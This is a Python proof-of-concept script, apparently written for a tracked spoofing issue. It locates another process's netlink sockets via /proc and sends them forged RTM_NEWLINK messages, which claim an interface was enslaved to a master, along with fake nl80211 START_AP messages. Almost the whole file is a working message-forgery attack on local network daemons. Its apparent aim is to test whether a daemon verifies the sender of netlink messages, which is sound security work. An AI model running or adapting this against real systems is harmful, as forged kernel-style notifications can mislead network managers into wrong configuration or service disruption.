#!/usr/bin/env python3
"""Forges netlink messages at another process's netlink sockets (issue 9, spoofing).

usage: spoof.py PID IFINDEX MASTER_IFINDEX

Finds PID's netlink sockets (socket inodes from /proc/PID/fd matched against the Inode
column of /proc/net/netlink, whose Pid column is the port id) and sends to every one of
them, from a user-space socket of the same protocol, with sendto((portid, 0)):
  * a forged RTM_NEWLINK claiming that IFINDEX is now a port of MASTER_IFINDEX, and
  * a forged nl80211-looking generic netlink message (START_AP, IFINDEX, SSID "forged").
Prints one line per send and a summary "ports route=N generic=M sent=K"; exits 1 when it
found no rtnetlink socket or a send failed.
"""
import os
import socket
import struct
import sys

NETLINK_ROUTE = 0
NETLINK_GENERIC = 16
RTM_NEWLINK = 16
IFLA_IFNAME = 3
IFLA_MASTER = 10
IFF_UP, IFF_RUNNING = 0x1, 0x40
NL80211_CMD_START_AP = 15
NL80211_ATTR_IFINDEX = 3
NL80211_ATTR_SSID = 52
FAKE_GENL_FAMILY = 0x1c  # what a dynamic family id looks like; nl80211 is not loaded here


def attr(kind, payload):
    n = 4 + len(payload)
    return struct.pack("=HH", n, kind) + payload + b"\0" * ((4 - n % 4) % 4)


def nlmsg(kind, body, portid):
    return struct.pack("=IHHII", 16 + len(body), kind, 0, 0, portid) + body


def forged_newlink(ifindex, master, portid):
    ifi = struct.pack("=BxHiII", socket.AF_UNSPEC, 1, ifindex, IFF_UP | IFF_RUNNING, 0)
    body = ifi + attr(IFLA_IFNAME, b"d0\0") + attr(IFLA_MASTER, struct.pack("=I", master))
    return nlmsg(RTM_NEWLINK, body, portid)


def forged_genl(ifindex, portid):
    genl = struct.pack("=BBH", NL80211_CMD_START_AP, 1, 0)
    body = genl + attr(NL80211_ATTR_IFINDEX, struct.pack("=I", ifindex)) + attr(NL80211_ATTR_SSID, b"forged")
    return nlmsg(FAKE_GENL_FAMILY, body, portid)


def ports_of(pid):
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(int(link[len("socket:["):-1]))
    with open("/proc/net/netlink") as f:
        header = f.readline().split()
        col = {name: i for i, name in enumerate(header)}
        out = []
        for line in f:
            c = line.split()
            if int(c[col["Inode"]]) in inodes:
                out.append((int(c[col["Eth"]]), int(c[col["Pid"]])))
    return out


def main():
    pid, ifindex, master = (int(a) for a in sys.argv[1:4])
    ports = ports_of(pid)
    sent = 0
    failed = 0
    for proto, port in ports:
        if proto not in (NETLINK_ROUTE, NETLINK_GENERIC):
            continue
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto)
        s.bind((0, 0))
        me = s.getsockname()[0]
        for what, msg in (("RTM_NEWLINK", forged_newlink(ifindex, master, me)), ("genl START_AP", forged_genl(ifindex, me))):
            try:
                s.sendto(msg, (port, 0))
                sent += 1
                print(f"sent forged {what} from port {me} to proto {proto} port {port}")
            except OSError as e:
                failed += 1
                print(f"sending forged {what} to proto {proto} port {port}: {e}")
        s.close()
    route = sum(1 for p, _ in ports if p == NETLINK_ROUTE)
    generic = sum(1 for p, _ in ports if p == NETLINK_GENERIC)
    print(f"ports route={route} generic={generic} sent={sent}")
    return 0 if route > 0 and failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
